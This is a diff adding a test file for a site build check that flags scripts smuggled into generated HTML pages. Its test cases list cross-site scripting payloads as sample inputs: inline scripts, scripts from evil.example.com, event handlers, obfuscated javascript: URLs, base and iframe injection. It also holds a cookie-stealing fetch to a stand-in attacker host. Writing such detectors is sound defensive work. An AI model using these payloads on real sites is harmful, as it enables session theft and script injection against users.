@@ -1,0 +1,49 @@
+import { smuggledInto, smuggledSentence } from "../../../src/build/inline-scripts"
+
+const own = "start()"
+const page = (inside: string) => `<!doctype html><html><body>${inside}</body></html>`
+
+test("the site's own scripts, data and links are no fault", () => {
+  const html = page(
+    `<script data-page="/">${own}</script><script src="/app.js"></script>` +
+      `<script type="application/ld+json">{"name":"x"}</script>` +
+      `<a href="https://www.example.com" data-once="1">Online</a> onclick=alert(1) javascript:`,
+  )
+  expect(smuggledInto(html, [own])).toEqual([])
+})
+
+test.each([
+  ["<script>alert(1)</script>", "an inline script"],
+  ["<script>start() </script>", "an inline script"],
+  ["<SCRIPT type=module>alert(1)</SCRIPT>", "an inline script"],
+  ["<svg><script>alert(1)</script></svg>", "an inline script"],
+  [`<script src="https://evil.example.com/x.js"></script>`, "a script of another site"],
+  [`<script src="//evil.example.com/x.js"></script>`, "a script of another site"],
+  [`<img src="x" onerror="alert(1)">`, "the event handler onerror"],
+  ["<details open ontoggle=alert(1)>x</details>", "the event handler ontoggle"],
+  [`<a href="javascript:alert(1)">x</a>`, "an address that runs a script (href)"],
+  [`<a href="java&#10;script:alert(1)">x</a>`, "an address that runs a script (href)"],
+  [`<form action=" JavaScript:alert(1)"></form>`, "an address that runs a script (action)"],
+  [`<iframe src="/"></iframe>`, "the element <iframe>"],
+  [`<base href="https://evil.example.com/">`, "the element <base>"],
+])("%s is found", (inside, what) => {
+  expect(smuggledInto(page(inside), [own]).map((each) => each.what)).toContain(what)
+})
+
+test("the sentence names the page, the beginning of the text, and the file it was written in", () => {
+  const text = 'fetch("https://evil.example.com/?" + document.cookie)'
+  const content = [
+    { path: "site/home.json", text: "{}" },
+    { path: "products/plank.json", text: JSON.stringify({ summary: `<script>${text}</script>` }) },
+  ]
+  expect(smuggledSentence("plank/index.html", { what: "an inline script", text }, content)).toBe(
+    'public/plank/index.html holds an inline script that is not one of the site\'s own: fetch("https://evil.example.com/?" + document.cookie). It stands in content/products/plank.json: take it out there.',
+  )
+})
+
+test("where no file of the content holds it, the sentence leaves that out", () => {
+  const found = { what: "an inline script", text: "x()" }
+  expect(smuggledSentence("index.html", found, [])).toBe(
+    "public/index.html holds an inline script that is not one of the site's own: x().",
+  )
+})
